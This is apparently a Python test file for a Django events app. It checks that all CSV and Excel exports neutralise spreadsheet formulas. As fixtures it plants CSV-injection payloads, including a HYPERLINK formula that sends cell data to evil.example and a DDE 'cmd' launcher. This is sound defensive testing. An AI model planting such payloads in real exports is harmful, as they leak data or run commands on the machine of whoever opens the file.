"""Exports (SECURITY.md): every cell of every CSV and workbook Moim writes
goes through one formula neutraliser, community.exports.

Two tests keep it so. Nothing in the project but that module imports a
spreadsheet writer or names the CSV media type, so a new export cannot write
around it. And every URL of the access matrix is fetched, by a visitor
allowed to open it, in a world whose survey labels, choices and answers and
whose applications' motivations are formulas: every CSV and .xlsx that
comes back is read cell by cell.
"""

import ast
import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.db import transaction
from openpyxl import load_workbook

from community.exports import XLSX_MEDIA_TYPE
from events.models import Application, Survey
from events.services.survey_setup import survey_question_add
from events.services.surveys import response_submit
from tests import access_matrix as m
from tests.events.factories import advance, gathering_held, survey_answers
from tests.test_access_matrix import ROWS, _url

PROJECT = ("community", "events", "realtime", "config")
EXPORTS = Path(settings.BASE_DIR, "community", "exports.py")
SPREADSHEET_MODULES = {"csv", "openpyxl", "xlsxwriter", "xlwt", "tablib", "pandas"}

# What a spreadsheet program runs as a formula (OWASP, "CSV Injection"),
# full-width forms included; told here, not imported from the code under test.
TRIGGERS = set("=+-@\t\r\n＝＋－＠")
LABEL = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
CHOICES = ["+cmd|' /C calc'!A0", "@SUM(1+1)", "－1+1", "＝1+2"]
TEXTS = ["=1+1", "-2+3", "=SUM(A1:A9)", "@A1"]


def _modules():
    for package in PROJECT:
        for path in sorted(Path(settings.BASE_DIR, package).rglob("*.py")):
            if "migrations" not in path.parts:
                yield path


def _imported(tree: ast.AST) -> set[str]:
    names = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            names |= {alias.name.split(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
            names.add(node.module.split(".")[0])
    return names


def test_only_the_export_module_writes_spreadsheets():
    offenders = []
    for path in _modules():
        if path == EXPORTS:
            continue
        source = path.read_text()
        found = _imported(ast.parse(source)) & SPREADSHEET_MODULES
        if "text/csv" in source:
            found.add("text/csv")
        if found:
            offenders.append(f"{path.relative_to(settings.BASE_DIR)}: {found}")
    assert not offenders, f"CSV written outside community/exports.py: {offenders}"


def _dangerous(cell: str) -> bool:
    return cell[:1] in TRIGGERS or cell.lstrip()[:1] in TRIGGERS


@pytest.fixture
def hostile_held(world):
    """The world's held gathering replaced by one whose organiser wrote
    formulas as its title, a question and its choices, and whose attendees
    answered with formulas; hosted by the moderator, like the one it
    replaces."""
    gathering, attendees = gathering_held(
        attendees=6,
        community=world.community,
        organiser=world.member("moderator"),
        video_link=m.OTHER_LINK,
        title=LABEL,
    )
    survey_question_add(
        gathering=gathering, kind="choice", label=LABEL, choices=CHOICES
    )
    survey_question_add(gathering=gathering, kind="text", label=LABEL[1:] + "-")
    survey = Survey.objects.get(gathering=gathering)
    for index, attendee in enumerate(attendees):
        response_submit(
            member=attendee,
            gathering=gathering,
            answers=survey_answers(
                4,
                useful=TEXTS[index % len(TEXTS)],
                q1=index % len(CHOICES),
                q2=TEXTS[(index + 1) % len(TEXTS)],
            ),
            now=survey.opens_at + timedelta(hours=1),
        )
    held, world.held = world.held, advance(gathering, survey.closes_at)
    # Its applicants and the main gathering's wrote a formula as their
    # motivation (the applicants' exports); the test's transaction undoes it.
    Application.objects.filter(gathering__in=[world.main, gathering]).update(
        motivation=LABEL
    )
    yield world.held
    world.held = held


# Which planted formulas each export carries: the survey's labels, choices
# and answers; the applicants' motivations; the gathering's title.
PLANTED = {
    "survey_results_csv": [LABEL, *CHOICES, *TEXTS],
    "gathering_applicants_csv": [LABEL],
    "gathering_applicants_xlsx": [LABEL],
    # The analytics' gatherings table carries the title; the months table
    # has no text anyone wrote.
    "community_analytics_gatherings_csv": [LABEL],
    "community_analytics_months_csv": [],
}


@pytest.mark.django_db
def test_every_cell_of_every_csv_is_neutralised(world, hostile_held):
    exports, workbooks = {}, {}
    for row in ROWS:
        allowed = [kind for kind, got in row.expect.items() if got == m.ALLOWED]
        if row.method != "get" or not allowed:
            continue
        with transaction.atomic():
            response = m.client_for(world, allowed[0]).get(_url(row, world))
            transaction.set_rollback(True)
        media_type = response.get("Content-Type", "")
        if media_type.startswith("text/csv"):
            exports[row.id] = response.content.decode("utf-8-sig")
        elif media_type.startswith(XLSX_MEDIA_TYPE):
            workbooks[row.id] = response.content

    keys = {row.id: row.key for row in ROWS}
    exported = {keys[row_id] for row_id in [*exports, *workbooks]}
    assert exported == set(PLANTED), "say what each export carries"
    for row_id, text in exports.items():
        key = keys[row_id]
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        # The formulas reached the file, as text.
        assert {f"'{planted}" for planted in PLANTED[key]} <= set(cells), row_id
        assert not [cell for cell in cells if _dangerous(cell)], row_id

    assert "gathering_applicants_xlsx" in {keys[row_id] for row_id in workbooks}
    for row_id, content in workbooks.items():
        key = keys[row_id]
        book = load_workbook(io.BytesIO(content))
        cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], row_id
        texts = [c for c in cells if isinstance(c.value, str)]
        # The formulas reached the workbook as text, marked as text.
        assert set(PLANTED[key]) <= {c.value for c in texts}, row_id
        unmarked = [c for c in texts if _dangerous(c.value) and not c.quotePrefix]
        assert not unmarked, row_id


def test_a_formula_after_leading_spaces_is_text_and_numbers_stay_numbers():
    from community.exports import cell_safe

    assert cell_safe("  =1+2") == "'  =1+2"
    assert cell_safe("\u3000@A1") == "'\u3000@A1"
    assert cell_safe("배운 점 = 많음") == "배운 점 = 많음"
    assert cell_safe(-3) == -3
    assert cell_safe(None) == ""


def test_a_workbook_cell_keeps_its_text_marked_and_drops_what_xml_cannot_hold():
    from community.exports import QuotedText, cell_safe

    assert cell_safe("=1+2", xlsx=True) == "=1+2"
    assert isinstance(cell_safe(" @A1", xlsx=True), QuotedText)
    assert not isinstance(cell_safe("배운 점 = 많음", xlsx=True), QuotedText)
    assert cell_safe("a\x00b\x1fc", xlsx=True) == "abc"
    assert cell_safe(7, xlsx=True) == 7
